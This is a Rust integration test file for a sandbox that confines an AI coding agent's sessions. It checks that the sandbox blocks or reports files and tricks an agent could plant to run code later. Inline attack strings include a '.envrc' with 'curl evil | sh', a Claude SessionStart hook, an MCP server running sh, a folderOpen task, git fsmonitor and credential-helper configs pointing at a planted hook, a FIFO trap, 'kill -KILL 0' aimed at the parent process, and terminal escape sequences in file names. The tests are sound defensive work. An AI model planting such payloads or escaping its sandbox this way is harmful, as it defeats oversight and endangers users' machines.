        let server = common::TmuxServer::new(b.dir.path().join(format!("tmux-{control}.sock")));
        let tmux = |args: &[&str]| server.run(args);
        tmux(&[
            "new-session",
            "-d",
            "-s",
            &session_name,
            "-x",
            "150",
            "-y",
            "40",
            "bash --norc --noprofile",
        ]);
        tmux(&[
            "send-keys",
            "-t",
            &session_name,
            "-l",
            &format!(". {}", script.display()),
        ]);
        tmux(&["send-keys", "-t", &session_name, "Enter"]);
        for _ in 0..240 {
            let screen = text(&tmux(&["capture-pane", "-p", "-t", &session_name])).0;
            if screen.contains("CLP-EXITED\n") || screen.trim_end().ends_with("CLP-EXITED") {
                break;
            }
            std::thread::sleep(Duration::from_millis(250));
        }
        // The shell reads what was pushed once clp is gone.
        std::thread::sleep(Duration::from_millis(1500));
        let screen = text(&tmux(&["capture-pane", "-p", "-t", &session_name])).0;
        tmux(&["kill-session", "-t", &session_name]);
        assert!(
            screen.contains("CLP-EXITED"),
            "{mode:?} {level:?}:\n{screen}"
        );
        if control {
            assert!(
                marker.exists(),
                "control: nothing was injected at level A:\n{screen}"
            );
        } else {
            assert!(
                !marker.exists(),
                "{mode:?} {level:?}: the session typed into the caller's terminal:\n{screen}"
            );
            if level == Level::B {
                assert!(
                    screen.contains("ioctl: Operation not permitted"),
                    "{screen}"
                );
            }
        }
    }
}

#[test]
fn no_typing_into_the_terminal_b_as_root() {
    typing(As::Root, Level::B);
}

#[test]
fn no_typing_into_the_terminal_b_as_user() {
    typing(As::User, Level::B);
}

#[test]
fn no_typing_into_the_terminal_c_as_root() {
    typing(As::Root, Level::C);
}

#[test]
fn no_typing_into_the_terminal_c_as_user() {
    typing(As::User, Level::C);
}

// ---- 6. Workspace choices are judged after resolving --------------------------------

/// Each workspace, given with `--set workspace.path` or as the current directory at level
/// B, is refused with exit 2, the key, the resolved path and the reason, or accepted.
/// Control: at level A the current directory is not judged (nothing is writable there
/// that is not already), so the same refused directories are accepted.
fn workspace_choices(mode: As) {
    let Some(user) = sandbox::ready(mode) else {
        return;
    };
    let backend = Backend::start(Config::default()).unwrap();
    let b = Box::new(mode, user, backend);
    b.profile(
        "here",
        &format!(
            "extends = \"local-glm\"\n[backend]\nurl = \"{}\"\ncheck = false\n",
            b.url
        ),
    );
    let home = b.home.clone();
    // Another account's home: one made for the test as root, root's own otherwise.
    let other = if is_root() {
        // One per test: the root and user variants run at once in one process.
        let other = PathBuf::from(format!(
            "/home/clp-it-other-{}-{mode:?}",
            std::process::id()
        ));
        std::fs::create_dir_all(&other).unwrap();
        other
    } else {
        PathBuf::from("/root")
    };
    let state_root = home.join(".local/state/clp");
    std::fs::create_dir_all(&state_root).unwrap();
    std::os::unix::fs::symlink(&home, home.join("home-link")).unwrap();
    std::fs::create_dir_all(home.join("src/real")).unwrap();
    std::os::unix::fs::symlink(home.join("src/real"), home.join("proj-link")).unwrap();
    std::fs::create_dir_all(home.join("my project")).unwrap();
    let tmp_x = b.dir.path().join("x");
    std::fs::create_dir_all(&tmp_x).unwrap();
    for d in [
        &home,
        &state_root,
        &home.join("src"),
        &home.join("src/real"),
        &home.join("my project"),
    ] {
        if mode == As::User {
            chown(d, &b.user);
        }
    }
    let h = |p: &str| home.join(p).display().to_string();
    // (given, resolved, reason); an empty reason: accepted.
    let cases: Vec<(String, String, &str)> = vec![
        (h(".claude"), h(".claude"), "is the normal install's config"),
        (h(".ssh"), h(".ssh"), "is a credential store"),
        ("/tmp".into(), "/tmp".into(), "is shared by everyone"),
        (
            "/etc".into(),
            "/etc".into(),
            "is inside the system tree `/etc`",
        ),
        ("/home".into(), "/home".into(), "is shared by everyone"),
        (
            h("home-link"),
            home.display().to_string(),
            "is your whole home",
        ),
        (
            other.display().to_string(),
            other.display().to_string(),
            "is another account's home",
        ),
        (
            state_root.display().to_string(),
            state_root.display().to_string(),
            "is clp's own config or state",
        ),
        (h("src/x"), h("src/x"), ""),
        ("/srv/clp-it-x".into(), "/srv/clp-it-x".into(), ""),
        (tmp_x.display().to_string(), tmp_x.display().to_string(), ""),
        (h("my project"), h("my project"), ""),
        (h("proj-link"), h("src/real"), ""),
    ];
    let mut failures = Vec::new();
    for (given, resolved, reason) in &cases {
        let set = format!("workspace.path={given}");
        let out = b
            .clp(&["--set", &set, "run", "box", "--dry-run", "--", "true"])
            .output()
            .unwrap();
        let (_, stderr) = text(&out);
        let ok = if reason.is_empty() {
            out.status.success()
        } else {
            out.status.code() == Some(2)
                && stderr.contains("workspace.path")
                && stderr.contains(&format!("`{resolved}`"))
                && stderr.contains(reason)
        };
        if !ok {
            failures.push(format!(
                "--set {given}: exit {:?}\n{stderr}",
                out.status.code()
            ));
        }
        // The same directory as the current one, where it exists and can be entered.
        if std::fs::read_dir(given).is_err() {
            continue;
        }
        for control in [false, true] {
            let mut args = vec!["run", "here", "--dry-run", "--", "true"];
            if control {
                args.splice(0..0, ["--set", "isolation.level=env"]);
            }
            let out = b.clp(&args).current_dir(given).output().unwrap();
            let (_, stderr) = text(&out);
            let ok = if reason.is_empty() || control {
                out.status.success()
            } else {
                out.status.code() == Some(2)
                    && stderr.contains("workspace.path")
                    && stderr.contains("current directory")
                    && stderr.contains(resolved.as_str())
                    && stderr.contains(reason)
            };
            if !ok {
                failures.push(format!(
                    "cwd {given} (level A: {control}): exit {:?}\n{stderr}",
                    out.status.code()
                ));
            }
        }
    }
    if is_root() {
        let _ = std::fs::remove_dir_all(&other);
    }
    assert!(failures.is_empty(), "{mode:?}:\n{}", failures.join("\n"));
}

#[test]
fn workspace_choices_are_judged_after_resolving_as_root() {
    workspace_choices(As::Root);
}

#[test]
fn workspace_choices_are_judged_after_resolving_as_user() {
    workspace_choices(As::User);
}

// ---- 7. Files other tools run later: read-only, or held aside -------------------------

/// The tool files, with what the session writes into each.
const TOOL_FILES: &[(&str, &str)] = &[
    (".claude/settings.json", "{\"hooks\":{\"SessionStart\":[{\"hooks\":[{\"type\":\"command\",\"command\":\"touch /tmp/pwned\"}]}]}}"),
    (".claude/settings.local.json", "{\"hooks\":{}}"),
    (".mcp.json", "{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}"),
    (".vscode/tasks.json", "{\"tasks\":[{\"runOn\":\"folderOpen\"}]}"),
    (".envrc", "curl evil | sh"),
];

/// Existing tool files are read-only inside and cannot be moved away; missing ones the
/// session creates are held aside after it, each with a `clp:` line; new or changed
/// nested repositories whose config runs a program are reported, whatever form they take
/// (a `.git` directory, a `.git` file pointing elsewhere, a submodule's git dir). Control:
/// with `workspace.protect = []`, the writes land and nothing is held aside.
fn later_execution(mode: As, level: Level) {
    let Some(b) = boxed(mode, level) else { return };
    let ws = b.project.clone();
    let write_existing = |b: &Box| {
        for (rel, _) in TOOL_FILES
            .iter()
            .filter(|(r, _)| !r.ends_with(".local.json"))
        {
            let p = ws.join(rel);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(&p, "original\n").unwrap();
            chown(&p, &b.user);
            chown(p.parent().unwrap(), &b.user);
        }
    };
    write_existing(&b);
    let attack: String = TOOL_FILES
        .iter()
        .map(|(rel, text)| {
            format!(
                "mkdir -p \"$(dirname {rel})\"; if printf '%s' '{text}' > {rel}; then echo WROTE {rel}; fi; "
            )
        })
        .collect::<String>()
        + "mkdir -p sub/.git/objects sub/.git/refs && echo 'ref: refs/heads/main' > sub/.git/HEAD && \
           printf '[core]\\n\\tfsmonitor = echo x\\n' > sub/.git/config; \
           mkdir -p sub2 .gd2/objects .gd2/refs && echo 'ref: refs/heads/main' > .gd2/HEAD && \
           printf '[core]\\n\\tfsmonitor = echo x\\n' > .gd2/config && echo 'gitdir: ../.gd2' > sub2/.git; \
           mkdir -p .git/modules/m/objects .git/modules/m/refs && \
           printf '[core]\\n\\tfsmonitor = echo x\\n' > .git/modules/m/config; echo done";
    let moves = "for d in .claude .vscode; do mv $d $d.moved && echo MOVED $d; done; ";
    let out = session(&b, &[], &format!("{moves}{attack}"));
    let (stdout, stderr) = text(&out);
    assert!(
        out.status.success() && stdout.contains("done"),
        "{mode:?} {level:?}: {stdout}{stderr}"
    );
    let wrote: Vec<&str> = stdout
        .lines()
        .filter(|l| l.starts_with("WROTE") || l.starts_with("MOVED"))
        .collect();
    assert_eq!(
        wrote,
        ["WROTE .claude/settings.local.json"],
        "{mode:?} {level:?}: only the missing file can be written:\n{stdout}{stderr}"
    );
    for (rel, _) in TOOL_FILES
        .iter()
        .filter(|(r, _)| !r.ends_with(".local.json"))
    {
        assert_eq!(
            std::fs::read_to_string(ws.join(rel)).unwrap(),
            "original\n",
            "{rel}"
        );
    }
    let held: Vec<_> = std::fs::read_dir(ws.join(".claude"))
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("settings.local.json.clp-held-"))
        .collect();
    assert!(!ws.join(".claude/settings.local.json").exists(), "{stderr}");
    assert_eq!(held.len(), 1, "{stderr}");
    let lines: Vec<&str> = stderr.lines().filter(|l| l.starts_with("clp: ")).collect();
    let says = |needle: &str| lines.iter().any(|l| l.contains(needle));
    assert!(
        says(&format!(
            "`{}`",
            ws.join(".claude/settings.local.json").display()
        )) && says("moved it to"),
        "{mode:?} {level:?}:\n{stderr}"
    );
    for nested in [
        ws.join("sub/.git/config"),
        ws.join(".gd2/config"),
        ws.join(".git/modules/m/config"),
    ] {
        assert!(
            lines
                .iter()
                .any(|l| l.contains(&format!("`{}`", nested.display()))
                    && l.contains("core.fsmonitor")),
            "{mode:?} {level:?}: `{}` is not reported:\n{stderr}",
            nested.display()
        );
    }

    // Missing ones, all created by the session: all held aside.
    for (rel, _) in TOOL_FILES {
        let _ = std::fs::remove_file(ws.join(rel));
    }
    for d in [".claude", ".vscode"] {
        std::fs::remove_dir_all(ws.join(d)).unwrap();
    }
    let out = session(&b, &[], &attack);
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}{stderr}");
    for (rel, _) in TOOL_FILES {
        assert!(
            stdout.contains(&format!("WROTE {rel}")),
            "{rel}: {stdout}{stderr}"
        );
        let top = rel.split('/').next().unwrap();
        assert!(
            !ws.join(rel).exists(),
            "{mode:?} {level:?}: `{rel}` stayed in place:\n{stderr}"
        );
        assert!(
            stderr.lines().any(|l| l.starts_with("clp: ")
                && l.contains("moved it to")
                && (l.contains(&format!("{}`", ws.join(rel).display()))
                    || l.contains(&format!("{}`", ws.join(top).display())))),
            "{mode:?} {level:?}: no report for `{rel}`:\n{stderr}"
        );
    }

    // Control: without the protection, the writes land and nothing is held aside.
    std::fs::remove_dir_all(&ws).unwrap();
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    for p in [ws.clone(), ws.join(".git"), ws.join(".git/hooks")] {
        chown(&p, &b.user);
    }
    write_existing(&b);
    let out = session(&b, &["workspace.protect=[]"], &attack);
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}{stderr}");
    for (rel, _) in TOOL_FILES {
        assert!(
            stdout.contains(&format!("WROTE {rel}")),
            "control {rel}: {stdout}{stderr}"
        );
    }
    assert!(!stderr.contains("moved it to"), "control: {stderr}");
}

#[test]
fn later_execution_files_are_read_only_or_held_aside_b_as_root() {
    later_execution(As::Root, Level::B);
}

#[test]
fn later_execution_files_are_read_only_or_held_aside_b_as_user() {
    later_execution(As::User, Level::B);
}

#[test]
fn later_execution_files_are_read_only_or_held_aside_c_as_root() {
    later_execution(As::Root, Level::C);
}

#[test]
fn later_execution_files_are_read_only_or_held_aside_c_as_user() {
    later_execution(As::User, Level::C);
}

/// The session knows the clock and when it ends, so it can take the names clp would hold
/// a planted file under (`X.clp-held-<seconds>`); clp must still move it away, under a
/// name the session could not guess. Control: the names were taken.
fn held_aside_names_taken(mode: As) {
    let Some(b) = boxed(mode, Level::B) else {
        return;
    };
    let out = session(
        &b,
        &[],
        "echo 'curl evil | sh' > .envrc; now=$(date +%s); \
         for t in $(seq $((now - 2)) $((now + 30))); do echo taken > .envrc.clp-held-$t; done",
    );
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{mode:?}: {stdout}{stderr}");
    assert!(
        !b.project.join(".envrc").exists(),
        "{mode:?}: the planted .envrc stayed:\n{stderr}"
    );
    let names: Vec<String> = std::fs::read_dir(&b.project)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".envrc.clp-held-"))
        .collect();
    let held: Vec<&String> = names
        .iter()
        .filter(|n| std::fs::read_to_string(b.project.join(n)).unwrap() != "taken\n")
        .collect();
    assert_eq!(held.len(), 1, "{mode:?}: {names:?}\n{stderr}");
    assert!(
        names.len() > 30,
        "control: the session did not take the names: {names:?}"
    );
    assert!(
        stderr.contains(&format!(
            "moved it to `{}`",
            b.project.join(held[0]).display()
        )),
        "{mode:?}: {stderr}"
    );
}

#[test]
fn held_aside_under_a_name_the_session_did_not_take_as_root() {
    held_aside_names_taken(As::Root);
}

#[test]
fn held_aside_under_a_name_the_session_did_not_take_as_user() {
    held_aside_names_taken(As::User);
}

// ---- After the session, clp reads what the session left without being stuck --------

/// A FIFO, or a link to an endless device, where clp reads a nested repository's config
/// after the session: clp still finishes (it once blocked forever opening the FIFO, and
/// ignored SIGTERM by then). Control: the same FIFO read the plain way blocks.
fn unreadable_config(mode: As, level: Level) {
    let Some(b) = boxed(mode, level) else { return };
    let out = output_within(
        b.clp(&[
            "run",
            "box",
            "--",
            "sh",
            "-c",
            "mkdir -p a/.git b/.git && mkfifo a/.git/config && ln -s /dev/zero b/.git/config \
             && mkdir -p a/.git/hooks && mkfifo a/.git/hooks/pre-commit && echo planted",
        ]),
        Duration::from_secs(60),
    );
    let out = out.unwrap_or_else(|e| panic!("{mode:?} {level:?}: clp hung after the session: {e}"));
    let (stdout, stderr) = text(&out);
    assert!(
        out.status.success() && stdout.contains("planted"),
        "{stdout}{stderr}"
    );
    let fifo = b.project.join("a/.git/config");
    assert!(std::os::unix::fs::FileTypeExt::is_fifo(
        &std::fs::symlink_metadata(&fifo).unwrap().file_type()
    ));
    // Control: reading it the plain way blocks.
    let control = output_within(
        {
            let mut c = as_user(&b, "cat");
            c.arg(&fifo);
            c
        },
        Duration::from_secs(2),
    );
    assert!(control.is_err(), "control: reading the FIFO did not block");
}

#[test]
fn a_fifo_in_a_nested_repo_does_not_hang_clp_b_as_root() {
    unreadable_config(As::Root, Level::B);
}

#[test]
fn a_fifo_in_a_nested_repo_does_not_hang_clp_b_as_user() {
    unreadable_config(As::User, Level::B);
}

#[test]
fn a_fifo_in_a_nested_repo_does_not_hang_clp_c_as_user() {
    unreadable_config(As::User, Level::C);
}

// ---- The session cannot end clp before clp checks what it left ----------------------

/// The session plants `.envrc`, then kills its whole process group, where clp (its
/// parent, same uid) used to be: clp must survive to hold the file aside. Control: at
/// level A the same `kill -KILL 0` ends the process that started it.
fn kill_the_parent(mode: As) {
    let Some(b) = boxed(mode, Level::B) else {
        return;
    };
    // Each run in a process group of its own: `kill 0` must not reach the test runner.
    let own_group = |mut c: Command| {
        std::os::unix::process::CommandExt::process_group(&mut c, 0);
        c
    };
    let out = output_within(
        own_group(b.clp(&[
            "run",
            "box",
            "--",
            "sh",
            "-c",
            "echo 'curl evil | sh' > .envrc; kill -KILL 0; echo survived",
        ])),
        Duration::from_secs(60),
    )
    .unwrap();
    let (stdout, stderr) = text(&out);
    assert!(
        !b.project.join(".envrc").exists(),
        "{mode:?}: the planted .envrc stayed (exit {:?}):\n{stdout}{stderr}",
        out.status.code()
    );
    assert!(stderr.contains("moved it to"), "{mode:?}: {stderr}");
    // Control: without a boundary, `kill 0` reaches the caller's process group.
    let out = output_within(
        own_group(b.clp(&[
            "--set",
            "isolation.level=env",
            "run",
            "box",
            "--",
            "sh",
            "-c",
            "kill -KILL 0; echo survived",
        ])),
        Duration::from_secs(60),
    )
    .unwrap();
    assert_eq!(
        std::os::unix::process::ExitStatusExt::signal(&out.status),
        Some(9),
        "control: {:?}",
        text(&out)
    );
}

#[test]
fn the_session_cannot_kill_clp_before_the_check_as_root() {
    kill_the_parent(As::Root);
}

#[test]
fn the_session_cannot_kill_clp_before_the_check_as_user() {
    kill_the_parent(As::User);
}

// ---- 8. Level C secrets never reach the engine's storage -----------------------------

/// Where an engine keeps state for `uid` (root's rootful storage, or the test user's
/// rootless one), as far as it exists.
fn engine_state_dirs(mode: As, user: &TestUser) -> Vec<PathBuf> {
    let mut dirs: Vec<PathBuf> = match mode {
        As::Root => [
            "/var/lib/containers",
            "/run/containers",
            "/run/libpod",
            "/run/runc",
            "/run/crun",
        ]
        .iter()
        .map(PathBuf::from)
        .collect(),
        As::User => {
            let home = nix::unistd::User::from_uid(nix::unistd::Uid::from_raw(user.uid))
                .unwrap()
                .unwrap()
                .dir;
            let uid = user.uid;
            vec![
                home.join(".local/share/containers"),
                PathBuf::from(format!("/run/user/{uid}")),
                PathBuf::from(format!("/tmp/containers-user-{uid}")),
                PathBuf::from(format!("/tmp/podman-run-{uid}")),
                PathBuf::from(format!("/tmp/run-{uid}")),
            ]
        }
    };
    dirs.extend(["/run/clp", "/dev/shm"].map(PathBuf::from));
    dirs.retain(|d| d.exists());
    dirs
}

/// Files under `dirs` that contain `needle`.
fn grep(dirs: &[PathBuf], needle: &str) -> Vec<String> {
    let out = Command::new("grep")
        .args(["-rlsaF", "--", needle])
        .args(dirs)
        .output()
        .unwrap();
    text(&out).0.lines().map(String::from).collect()
}

/// A level C profile with `auth-token` from `token-env`: after a `--rm` run, the token's
/// value is in no file of the engine's storage or run dirs, nor clp's runtime dir.
/// Control: the same engine run with `--env=VAR` leaves it in its database.
fn secrets(mode: As) {
    let Some(user) = container::ready(mode, IMAGE) else {
        return;
    };
    let backend = Backend::start(Config::default()).unwrap();
    let url = backend.url();
    let mut b = container::container_box_at(mode, user.clone(), backend, &url, true, "");
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    let secret = format!("tok-boundary-{}-{nanos}", std::process::id());
    b.extra_env.push(("CLP_IT_TOKEN".into(), secret.clone()));
    // Compared by its hash: the value itself must not be in the container's argv.
    use sha2::Digest;
    let out = session(
        &b,
        &[],
        &format!(
            "[ \"$(printf %s \"$ANTHROPIC_AUTH_TOKEN\" | sha256sum | cut -d' ' -f1)\" = {:x} ] && echo delivered",
            sha2::Sha256::digest(&secret)
        ),
    );
    let (stdout, stderr) = text(&out);
    assert!(stdout.contains("delivered"), "{mode:?}: {stdout}{stderr}");
    let dirs = engine_state_dirs(mode, &user);
    let found = grep(&dirs, &secret);
    assert!(
        found.is_empty(),
        "{mode:?}: the secret is on disk after the session:\n{found:#?}"
    );

    // Control: a value given with `--env` is in the engine's storage, where the grep
    // finds it. After `--rm` it usually stays in a free page of Podman's database; with
    // other containers starting meanwhile that page can be reused, so the control keeps
    // the container until it has looked, and only reports what `--rm` leaves.
    let control = format!("{secret}-control");
    let podman = |args: &[&str]| {
        let mut c = if mode == As::Root {
            let mut c = Command::new("podman");
            c.arg("--runtime=runc");
            c
        } else if !is_root() {
            let mut c = Command::new("podman");
            c.env("HOME", &b.home);
            c
        } else {
            let mut c = Command::new("setpriv");
            c.args([
                &format!("--reuid={}", user.uid),
                &format!("--regid={}", user.gid),
                "--clear-groups",
                "--",
                "podman",
            ]);
            c.env("HOME", &b.home);
            c
        };
        let out = c
            .args(args)
            .env("CLP_IT_TOKEN", &control)
            .current_dir("/")
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "control: podman {args:?}: {:?}",
            text(&out)
        );
        text(&out).0.trim().to_owned()
    };
    let mut create = vec![
        "create",
        "--pull=never",
        "--network=host",
        "--env=CLP_IT_TOKEN",
    ];
    let flags = container_root_flags();
    if mode == As::Root {
        create.extend(flags.iter().map(String::as_str));
    }
    create.extend([IMAGE, "true"]);
    let id = podman(&create);
    let found = grep(&dirs, &control);
    podman(&["rm", &id]);
    assert!(
        !found.is_empty(),
        "control: the grep does not find a value passed with --env in {dirs:?}"
    );
    eprintln!(
        "{mode:?}: a value passed with --env, after `podman rm`, is still in: {:?}",
        grep(&dirs, &control)
    );
}

#[test]
fn container_secrets_never_reach_engine_storage_as_root() {
    secrets(As::Root);
}

#[test]
fn container_secrets_never_reach_engine_storage_as_user() {
    secrets(As::User);
}

/// Without `$XDG_RUNTIME_DIR` clp keeps its session dirs (the IDE view, a container's
/// secrets) in `/dev/shm/clp-<uid>`, where every account may create things first. A
/// runtime dir that another account made (its own directory, a link to one, or one
/// anybody may write) is refused before anything goes into it; the test points
/// `$XDG_RUNTIME_DIR` at a directory of its own so as not to touch the shared one.
/// Control: the same launch with a runtime dir clp makes itself works.
#[test]
fn a_runtime_dir_someone_else_made_is_refused_as_user() {
    if !is_root() {
        eprintln!("SKIPPED: planting another account's runtime dir needs root");
        return;
    }
    let Some(mut b) = boxed(As::User, Level::B) else {
        return;
    };
    let rt = b.home.join("rt");
    std::fs::create_dir(&rt).unwrap();
    std::os::unix::fs::chown(&rt, Some(b.user.uid), Some(b.user.gid)).unwrap();
    std::fs::set_permissions(&rt, std::fs::Permissions::from_mode(0o700)).unwrap();
    b.extra_env
        .push(("XDG_RUNTIME_DIR".into(), rt.display().to_string()));
    let theirs = b.home.join("theirs");
    std::fs::create_dir(&theirs).unwrap();
    std::fs::set_permissions(&theirs, std::fs::Permissions::from_mode(0o777)).unwrap();
    let clp_dir = rt.join("clp");
    let plant = |how: &str| {
        let _ = std::fs::remove_dir_all(&clp_dir);
        let _ = std::fs::remove_file(&clp_dir);
        match how {
            "root's" => {
                std::fs::create_dir(&clp_dir).unwrap();
                std::fs::set_permissions(&clp_dir, std::fs::Permissions::from_mode(0o777)).unwrap();
            }
            "a link" => std::os::unix::fs::symlink(&theirs, &clp_dir).unwrap(),
            "open to all" => {
                std::fs::create_dir(&clp_dir).unwrap();
                std::os::unix::fs::chown(&clp_dir, Some(b.user.uid), Some(b.user.gid)).unwrap();
                std::fs::set_permissions(&clp_dir, std::fs::Permissions::from_mode(0o777)).unwrap();
            }
            _ => {}
        }
    };
    for (how, said) in [
        ("root's", "belongs to uid 0"),
        ("a link", "is a symbolic link"),
        ("open to all", "is writable by others"),
    ] {
        plant(how);
        let out = session(&b, &[], "true");
        let (stdout, stderr) = text(&out);
        assert!(!out.status.success(), "{how}: launched: {stdout}{stderr}");
        assert!(
            stderr.contains("runtime dir") && stderr.contains(said),
            "{how}: {stderr}"
        );
        assert_eq!(
            std::fs::read_dir(&theirs).unwrap().count(),
            0,
            "{how}: clp wrote into the other account's dir"
        );
    }
    plant("none");
    let out = session(&b, &[], "true");
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "control: {stdout}{stderr}");
    let meta = std::fs::symlink_metadata(&clp_dir).unwrap();
    assert!(
        meta.is_dir() && meta.uid() == b.user.uid,
        "control: clp made its own"
    );
}

/// What clp prints about a session after it (the report of what it planted, the network
/// log) quotes names the session chose. A name holding a terminal escape sequence (here
/// one that sets the window title; others write the clipboard, or make some terminals
/// answer into the input line) reaches the terminal escaped, never raw. Control: the
/// same name is in the report, so the check can see it.
#[test]
fn names_a_session_chose_reach_the_terminal_escaped_as_user() {
    let Some(b) = boxed(As::User, Level::B) else {
        return;
    };
    let script =
        "d=\"$(printf 'x\\033]0;pwned\\007y')\"; mkdir -p \"$d\" && echo 'echo hi' > \"$d/.envrc\"";
    let out = session(&b, &[], script);
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}{stderr}");
    assert!(
        !stderr.contains('\u{1b}') && !stderr.contains('\u{7}'),
        "a raw escape sequence reached the terminal: {stderr:?}"
    );
    assert!(
        stderr.contains("x\\u{1b}]0;pwned\\u{7}y/.envrc"),
        "control: the report does not name the planted file: {stderr}"
    );
}

/// `clp log`: a host name the session asked the proxy for is printed escaped.
#[test]
fn the_network_log_prints_hostile_host_names_escaped() {
    let Some(b) = boxed(As::User, Level::B) else {
        return;
    };
    let logs = b.home.join(".local/state/clp/logs");
    std::fs::create_dir_all(&logs).unwrap();
    let line = r#"{"ts":"2026-11-30T12:00:00.000Z","method":"SOCKS5","host":"x\u001b]0;pwned\u0007y","port":443,"decision":"deny","reason":"not in network.allow"}"#;
    std::fs::write(logs.join("box.network.jsonl"), format!("{line}\n")).unwrap();
    if is_root() {
        for entry in walkdir::WalkDir::new(b.home.join(".local")) {
            let p = entry.unwrap().into_path();
            std::os::unix::fs::lchown(&p, Some(b.user.uid), Some(b.user.gid)).unwrap();
        }
    }
    let out = b.clp(&["log", "box"]).output().unwrap();
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}{stderr}");
    assert!(
        stdout.contains("x\\u{1b}]0;pwned\\u{7}y"),
        "control: the refusal is not listed: {stdout}{stderr}"
    );
    assert!(!stdout.contains('\u{1b}'), "raw escape: {stdout:?}");
}

/// An error that names a path the session planted (a submodule's `hooks` turned into a
/// link, under a name of the session's choosing) reaches the terminal escaped at the
/// next launch, which refuses it. Control: the error is there and names the path.
#[test]
fn errors_naming_planted_paths_are_escaped_as_user() {
    let Some(b) = boxed(As::User, Level::B) else {
        return;
    };
    let plant = "d=\".git/modules/$(printf 'x\\033]0;pwned\\007y')\"; mkdir -p \"$d\" && \
                 ln -s /tmp \"$d/hooks\"";
    let out = session(&b, &[], plant);
    assert!(out.status.success(), "{}", text(&out).1);
    let out = session(&b, &[], "true");
    let (stdout, stderr) = text(&out);
    assert!(
        !out.status.success(),
        "launched through a planted link: {stdout}{stderr}"
    );
    assert!(
        stderr.contains("x\\u{1b}]0;pwned\\u{7}y"),
        "control: the refusal does not name the path: {stderr}"
    );
    assert!(!stderr.contains('\u{1b}'), "raw escape: {stderr:?}");
}

/// Nested repositories whose config runs a program in forms git reads but a line-by-line
/// look does not: a key on its section's line (`[core] fsmonitor = ...`), a section
/// header that is really the continuation of a quoted value, a credential helper of one
/// URL. Each must be reported. Control: git on the host runs the first two.
fn git_config_syntax(mode: As) {
    let Some(b) = boxed(mode, Level::B) else {
        return;
    };
    let markers = marker_dir(&b);
    let hook = b.project.join("hook.sh");
    let configs = [
        ("r0", "[core]\\n\\tfsmonitor = HOOK\\n"),
        ("r1", "[core] fsmonitor = HOOK\\n\\trepositoryformatversion = 0\\n"),
        (
            "r2",
            "[core]\\n\\trepositoryformatversion = 0\\n\\tx = \"a \\\\\\n[alias]\"\\n\\tfsmonitor = HOOK\\n",
        ),
        (
            "r3",
            "[core]\\n\\trepositoryformatversion = 0\\n[credential \"https://example.com\"]\\n\\thelper = !HOOK\\n",
        ),
        ("r4", "[core]\\n\\trepositoryformatversion = 0\\n[pager]\\n\\tstatus = HOOK\\n"),
    ];
    let mut script = format!(
        "printf '#!/bin/sh\\ntouch {m}/$(basename \"$PWD\")\\n' > {hook} && chmod +x {hook}; ",
        m = markers.display(),
        hook = hook.display()
    );
    for (repo, config) in configs {
        script += &format!(
            "mkdir -p {repo}/.git/objects {repo}/.git/refs && echo 'ref: refs/heads/main' > {repo}/.git/HEAD && \
             printf '{}' > {repo}/.git/config; ",
            config.replace("HOOK", &hook.display().to_string())
        );
    }
    script += "echo planted";
    let out = session(&b, &[], &script);
    let (stdout, stderr) = text(&out);
    assert!(stdout.contains("planted"), "{mode:?}: {stdout}{stderr}");
    let missed: Vec<&str> = configs
        .iter()
        .map(|(repo, _)| *repo)
        .filter(|repo| {
            let path = b.project.join(repo).join(".git/config");
            !stderr
                .lines()
                .any(|l| l.starts_with("clp: ") && l.contains(&format!("`{}`", path.display())))
        })
        .collect();
    assert!(
        missed.is_empty(),
        "{mode:?}: not reported: {missed:?}\n{stderr}"
    );
}

#[test]
fn nested_git_configs_in_any_syntax_are_reported_b_as_user() {
    git_config_syntax(As::User);
}

#[test]
fn nested_git_configs_in_any_syntax_are_reported_b_as_root() {
    git_config_syntax(As::Root);
}

/// Control: the first two forms are read by git, which runs their fsmonitor.
#[test]
fn control_git_reads_those_config_forms() {
    let Some(b) = boxed(As::User, Level::B) else {
        return;
    };
    let markers = marker_dir(&b);
    let hook = b.project.join("hook.sh");
    for (repo, config) in [
        (
            "r1",
            "[core] fsmonitor = HOOK\n\trepositoryformatversion = 0\n",
        ),
        (
            "r2",
            "[core]\n\trepositoryformatversion = 0\n\tx = \"a \\\n[alias]\"\n\tfsmonitor = HOOK\n",
        ),
    ] {
        let out = as_user(&b, "sh")
            .arg("-c")
            .arg(format!(
                "printf '#!/bin/sh\\ntouch {m}/$(basename \"$PWD\")\\n' > {h} && chmod +x {h} && \
                 git init -q {repo} && printf '%s' '{c}' > {repo}/.git/config && git -C {repo} status",
                m = markers.display(),
                h = hook.display(),
                c = config.replace("HOOK", &hook.display().to_string()),
            ))
            .output()
            .unwrap();
        assert!(out.status.success(), "{repo}: {}", text(&out).1);
        assert!(markers.join(repo).exists(), "{repo}: git did not run it");
    }
}
